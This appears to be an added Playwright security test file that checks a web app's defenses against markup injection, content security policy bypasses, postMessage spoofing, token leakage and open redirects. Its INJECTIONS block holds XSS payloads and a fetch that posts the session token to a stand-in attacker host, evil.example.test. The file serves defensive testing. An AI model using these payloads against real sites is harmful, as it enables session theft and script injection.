@@ -1,0 +1,194 @@
+import type { Page } from '@playwright/test';
+import * as z from 'zod';
+import type { Attack } from './attack.ts';
+import { MARKUP } from './planted-markup.ts';
+import type { Target } from './target.ts';
+
+const Id = z.looseObject({ id: z.string(), slug: z.string(), customer: z.object({ id: z.string() }) });
+const Own = z.object({ viewer: z.object({ customer: z.object({ id: z.string() }) }) });
+
+/** Address of a widget of the trader's customer. */
+async function widgetPath(target: Target, slug: string): Promise<string> {
+  const { data } = await target.gateway.ask('{ viewer { customer { id } } }', {}, target.trader);
+  const own = Own.parse(data).viewer.customer.id;
+  const widgets = z.array(Id).parse(await target.sandbox.control.allState('widgets'));
+  const widget = widgets.find((each) => each.slug === slug && each.customer.id === own);
+  if (!widget) throw new Error(`there is no widget ${slug}`);
+  return `/widget/${widget.id}`;
+}
+
+/** Waits within the page: what polls it from outside would have to evaluate texts, which its policy refuses. */
+async function until(page: Page, condition: string): Promise<void> {
+  await page.evaluate(`new Promise((done) => {
+    const look = () => ((${condition}) ? done() : setTimeout(look, 20));
+    look();
+  })`);
+}
+
+const pwned = (page: Page): Promise<unknown> => page.evaluate('window.pwned ?? null');
+
+/** Whether each page shows the markup as the text that it is. */
+async function showMarkup(target: Target, paths: readonly string[]): Promise<string> {
+  const shown = await Promise.all(
+    paths.map(async (path) => {
+      const { page, violations } = await target.visit(path);
+      await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
+      const ran = await pwned(page);
+      const told = violations();
+      await page.close();
+      return ran === null && told.length === 0 ? [] : [`${path}: ran ${String(ran)}, ${told.join(' ')}`];
+    }),
+  );
+  return shown.flat().join('; ') || 'text on each, nothing ran, no report';
+}
+
+/** What somebody would do who found a way to write into the page. */
+const INJECTIONS = `
+  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
+  add('script', { textContent: 'window.pwned = 1' });
+  add('script', { src: 'https://evil.example.test/x.js' });
+  add('div', { innerHTML: '<img src="data:," onerror="window.pwned = 1">' });
+  add('iframe', { src: 'https://evil.example.test/' });
+  add('object', { data: 'https://evil.example.test/' });
+  add('base', { href: 'https://evil.example.test/' });
+  add('style', { textContent: 'body { background: url(https://evil.example.test/) }' });
+  add('img', { src: 'https://evil.example.test/?stolen' });
+  fetch('https://evil.example.test/', { method: 'POST', body: localStorage.getItem('sightline.session') }).catch(() => {});
+  // Of its own accord: what the browser's tools evaluate may evaluate texts.
+  setTimeout(() => new Function('window.pwned = 1')());
+`;
+/** In this order they are told. */
+const REFUSED = 'base-uri connect-src frame-src img-src object-src script-src script-src-attr script-src-elem style-src-elem';
+
+async function inject(target: Target): Promise<string> {
+  const { page, violations } = await target.visit('/api-clients');
+  await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
+  await page.evaluate(`(() => { ${INJECTIONS} })()`);
+  await until(page, `document.querySelector('img[src="https://evil.example.test/?stolen"]').complete`);
+  const ran = await pwned(page);
+  const told = violations().join(' ');
+  await page.close();
+  return ran === null ? told : 'ran';
+}
+
+const WIDGET_PAGE = /\/widgets\/[^/]+\/[^/]+\/\d+$/;
+const say = (data: string): string => `window.parent.postMessage(${data}, '*')`;
+/** Heights of the frame as they came, each once in a row. */
+const FOLLOW_HEIGHT = `
+  window.heights = [];
+  new MutationObserver(() => {
+    const height = document.querySelector('iframe').style.height;
+    if (window.heights.at(-1) !== height) window.heights.push(height);
+  }).observe(document.querySelector('iframe'), { attributes: true, attributeFilter: ['style'] });
+`;
+
+async function sendHeights(target: Target): Promise<string> {
+  const slug = 'live-series';
+  const message = (height: string): string => `{ type: 'widget_height', widget: '${slug}', height: ${height} }`;
+  const { page } = await target.visit(await widgetPath(target, slug), async (opened) => {
+    await opened.route(WIDGET_PAGE, (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<!doctype html><script>${say(message('100'))}</script>` }),
+    );
+  });
+  await until(page, `document.querySelector('iframe')?.style.height === '100px'`);
+  await page.evaluate(FOLLOW_HEIGHT);
+  const frame = page.frames().find((each) => WIDGET_PAGE.test(each.url()));
+  if (!frame) throw new Error('there is no widget');
+  // Of the page itself, and of another frame of the widget's own origin.
+  await page.evaluate(`window.postMessage(${message('701')}, '*')`);
+  const other = `${frame.url()}9`;
+  const loaded = page.waitForEvent('framenavigated', { predicate: (each) => each.url() === other });
+  await page.evaluate(`void document.body.append(Object.assign(document.createElement('iframe'), { src: '${other}' }))`);
+  await (await loaded).evaluate(say(message('702')));
+  for (const height of ["'703'", 'NaN', 'Infinity', '{}', 'null']) await frame.evaluate(say(message(height)));
+  await frame.evaluate(say(`{ type: 'widget_height', widget: 'another', height: 704 }`));
+  for (const height of ['1e9', '-5', '300']) await frame.evaluate(say(message(height)));
+  await until(page, `window.heights.at(-1) === '300px'`);
+  const heights = z.array(z.string()).parse(await page.evaluate('window.heights'));
+  await page.close();
+  return heights.join(', ');
+}
+
+/** Everything that the browser keeps for this site, but for what the session is kept in. */
+const KEPT = `(async () => {
+  const kept = [document.cookie, JSON.stringify(sessionStorage), JSON.stringify(history.state)];
+  for (const [key, value] of Object.entries(localStorage)) if (!/^sightline\\.(session|trading)/.test(key)) kept.push(key, value);
+  for (const { name } of await indexedDB.databases()) {
+    const database = await new Promise((resolve, reject) => {
+      const opening = indexedDB.open(name);
+      opening.onsuccess = () => resolve(opening.result);
+      opening.onerror = () => reject(opening.error);
+    });
+    for (const store of database.objectStoreNames) {
+      const all = await new Promise((resolve, reject) => {
+        const reading = database.transaction(store).objectStore(store).getAll();
+        reading.onsuccess = () => resolve(reading.result);
+        reading.onerror = () => reject(reading.error);
+      });
+      kept.push(JSON.stringify(all));
+    }
+    database.close();
+  }
+  return { kept: kept.join('\\n'), local: JSON.stringify({ ...localStorage }) };
+})()`;
+const Kept = z.object({ kept: z.string(), local: z.string() });
+
+async function lookForTokens(target: Target): Promise<string> {
+  const { page, requested } = await target.visit('/trading');
+  await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
+  const { kept, local } = Kept.parse(await page.evaluate(KEPT));
+  const sealed = z.string().parse(/"token\\":\\"([^"\\]+)/.exec(local)?.[1]);
+  const places = { address: requested.join('\n'), storage: kept, page: await page.content() };
+  const found = Object.entries(places).filter(([, text]) => text.includes(target.trader.bearer) || text.includes(sealed));
+  await page.close();
+  return found.length === 0 && local.includes(target.trader.bearer)
+    ? 'in no other place'
+    : found.map(([place]) => place).join(', ');
+}
+
+async function leadAway(target: Target): Promise<string> {
+  const away = encodeURIComponent('//evil.example.test/login');
+  const { page } = await target.visit(`/login?next=${away}&from=${away}&redirect=${away}&returnTo=https%3A${away}`);
+  await page.waitForURL((url) => !['/', '/login'].includes(url.pathname));
+  const { origin, pathname } = new URL(page.url());
+  await page.close();
+  return origin === target.gateway.url ? pathname : origin;
+}
+
+export const PAGE_ATTACKS: readonly Attack[] = [
+  {
+    row: '39 page',
+    what: 'markup in names of clients, teams and tournaments and in the text of a widget',
+    expected: 'text on each, nothing ran, no report',
+    needsBrowser: true,
+    run: async (target) => showMarkup(target, ['/api-clients', await widgetPath(target, 'pre-series'), '/trading']),
+  },
+  {
+    row: '40 page',
+    what: 'scripts, handlers, frames, plug-ins, styles, pictures and calls that somebody put into the page',
+    expected: REFUSED,
+    needsBrowser: true,
+    run: inject,
+  },
+  {
+    row: '41 page',
+    what: 'heights from the page itself, another frame and another widget; texts, NaN, 1e9 and -5 from the right one',
+    expected: '10000px, 0px, 300px',
+    needsBrowser: true,
+    run: sendHeights,
+  },
+  {
+    row: '42 page',
+    what: 'a look for bearer and trading token in addresses, the page, cookies, databases and other storage',
+    expected: 'in no other place',
+    needsBrowser: true,
+    run: lookForTokens,
+  },
+  {
+    row: '43 page',
+    what: 'a sign-in page that is to lead on to another site',
+    expected: '/api-clients',
+    needsBrowser: true,
+    run: leadAway,
+  },
+];
